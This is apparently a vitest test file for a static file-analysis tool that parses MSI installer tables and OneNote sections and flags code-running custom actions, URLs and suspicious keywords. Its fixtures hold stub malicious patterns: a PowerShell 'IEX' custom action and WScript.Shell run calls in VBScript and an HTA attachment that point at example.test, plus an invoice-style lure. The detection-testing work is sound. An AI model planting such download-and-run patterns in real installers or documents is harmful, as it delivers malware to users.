import { utf8 } from '@cuculus/testing'
import { describe, expect, it } from 'vitest'
import { buildMsi } from '../../ole/test/buildMsi.js'
import { buildSection } from '../../onenote/test/buildSection.js'
import { runStatic } from './runStatic.js'

const noTyper = { typer: null }

describe('a package of Windows Installer', () => {
  const cabinet = utf8('MSCF\0\0\0\0 and so on')
  const binary = buildMsi(
    {
      Property: { columns: { Property: 's', Value: 's' }, rows: [['Url', 'http://example.test/setup']] },
      CustomAction: {
        columns: { Action: 's', Type: 'i', Source: 's', Target: 's' },
        rows: [
          ['Launch', 3106, 'TARGETDIR', 'powershell -c "IEX x"'],
          ['Entry', 1, 'Lib', 'Start'],
          ['Inline', 38, null, 'CreateObject("WScript.Shell").Run "http://example.test/a"'],
          ['SetPath', 51, 'PATHNAME', '[TARGETDIR]x'],
        ],
      },
      File: {
        columns: { File: 's', Component_: 's', FileName: 's', FileSize: 'l', Version: 's' },
        rows: [['f1', 'c1', 'LONGN~1.EXE|long name.exe', 70_000, '1.0']],
      },
      InstallExecuteSequence: {
        columns: { Action: 's', Condition: 's', Sequence: 'i' },
        rows: [
          ['InstallFinalize', null, 6600],
          ['Launch', 'NOT Installed', 6599],
          ['Never', null, null],
        ],
      },
    },
    { 'Binary.Lib': utf8('MZ library'), 'data1.cab': cabinet, other: utf8('nothing of note') },
  )

  it('has its tables as records, and tells which custom actions run code', async () => {
    const { fields } = await runStatic({ binary }, noTyper)
    expect(fields?.msi?.tables.map(({ name, rows }) => [name, rows])).toEqual([
      ['Property', 1],
      ['CustomAction', 4],
      ['File', 1],
      ['InstallExecuteSequence', 3],
    ])
    const actions = fields?.msi?.custom_actions.map((action) => [
      action.name,
      action.kind,
      action.location,
      action.runs_code,
    ])
    expect(actions).toEqual([
      ['Launch', 'exe', 'directory', true],
      ['Entry', 'dll', 'binary', true],
      ['Inline', 'vbscript', 'text', true],
      ['SetPath', 'property', 'text', false],
    ])
    expect(fields?.msi?.custom_actions[0]).toMatchObject({ type: 3106, deferred: true, no_impersonate: true })
    expect(fields?.msi?.files).toEqual([{ name: 'long name.exe', component: 'c1', size: 70_000, version: '1.0' }])
    expect(fields?.msi?.install_sequence.map(({ action }) => action)).toEqual(['Launch', 'InstallFinalize', 'Never'])
  })

  it('has what is in it with hashes, and addresses and words of note', async () => {
    const { fields } = await runStatic({ binary }, noTyper)
    expect(fields?.msi?.embedded).toMatchObject([
      { name: 'Binary.Lib', size: 10 },
      { name: 'data1.cab', size: cabinet.length },
    ])
    expect(fields?.office).toMatchObject({
      application: 'msi',
      urls: ['http://example.test/a', 'http://example.test/setup'],
    })
    expect(fields?.office?.suspicious.map(({ keyword }) => keyword)).toContain('powershell')
    expect(fields?.office?.streams.map(({ path }) => path)).toContain('!CustomAction')
  })
})

describe('a section of OneNote', () => {
  it('has its files with name, hash and place, and what is of note in them', async () => {
    const content = utf8('<script>new ActiveXObject("WScript.Shell").Run("http://example.test/a.exe")</script>')
    const { fields } = await runStatic({ binary: buildSection({ content, name: 'Open.hta' }) }, noTyper)
    expect(fields?.onenote).toMatchObject({
      format: 'section',
      texts: ['Double click to view', 'Invoice'],
      files: [{ name: 'Open.hta', size: content.length, type: null }],
      urls: ['http://example.test/link', 'http://example.test/a.exe'],
    })
    expect(fields?.onenote?.suspicious.map(({ keyword }) => keyword)).toContain('WScript.Shell')
  })
})
